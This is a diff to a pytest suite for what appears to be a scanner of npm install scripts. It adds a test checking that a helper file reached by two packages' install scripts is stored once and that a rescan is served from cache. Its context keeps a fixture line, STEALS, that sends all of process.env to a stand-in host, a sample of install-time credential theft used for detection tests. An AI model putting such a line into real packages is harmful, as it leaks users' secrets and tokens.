@@ -36,15 +36,14 @@ from tests.world import Said, World
 pytestmark = [pytest.mark.npm, pytest.mark.semgrep]
 
 STEALS = "const all = JSON.stringify(process.env); require('https').request('https://a.example.test').end(all)\n"
+NEEDS = {"helper": "*"}
 READS = "require('helper').greet('it works')\n"
 
 
 def a_tree(world: World, helper: str = "exports.greet = (text) => console.log(text)\n", version: str = "1.0.0") -> None:
     """Lock a script that uses a module of another package."""
     world.lock(
-        world.registry.publish(
-            "uses", "1.0.0", {"a.js": READS}, scripts={"install": "node a"}, dependencies={"helper": "*"}
-        ),
+        world.registry.publish("uses", "1.0.0", {"a.js": READS}, scripts={"install": "node a"}, dependencies=NEEDS),
         world.registry.publish("helper", version, {"index.js": helper}),
     )
 
@@ -61,6 +60,32 @@ def test_a_second_look_says_the_same_and_does_nothing_again(world: World, looked
     assert scan(world).out == first.out
     assert looked_at == []
     assert world.registry.seen("helper")
+
+
+def test_a_file_that_two_scripts_reach_is_kept_once(
+    world: World, looked_at: list[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    helper = "exports.greet = (text) => console.log(text)\n"
+    packed: list[bytes] = []
+    pack = remembering._packed
+
+    def packing(content: bytes) -> bytes:
+        packed.append(content)
+        return pack(content)
+
+    monkeypatch.setattr(remembering, "_packed", packing)
+    world.lock(
+        *(
+            world.registry.publish(name, "1.0.0", {"a.js": READS}, scripts={"install": "node a"}, dependencies=NEEDS)
+            for name in ("uses", "also-uses")
+        ),
+        world.registry.publish("helper", "1.0.0", {"index.js": helper}),
+    )
+    first = scan(world)
+    assert packed.count(helper.encode()) == 1
+    looked_at.clear()
+    assert scan(world).out == first.out
+    assert looked_at == []
 
 
 def test_where_the_lockfile_does_not_say_where_archives_are_npm_is_told_again(
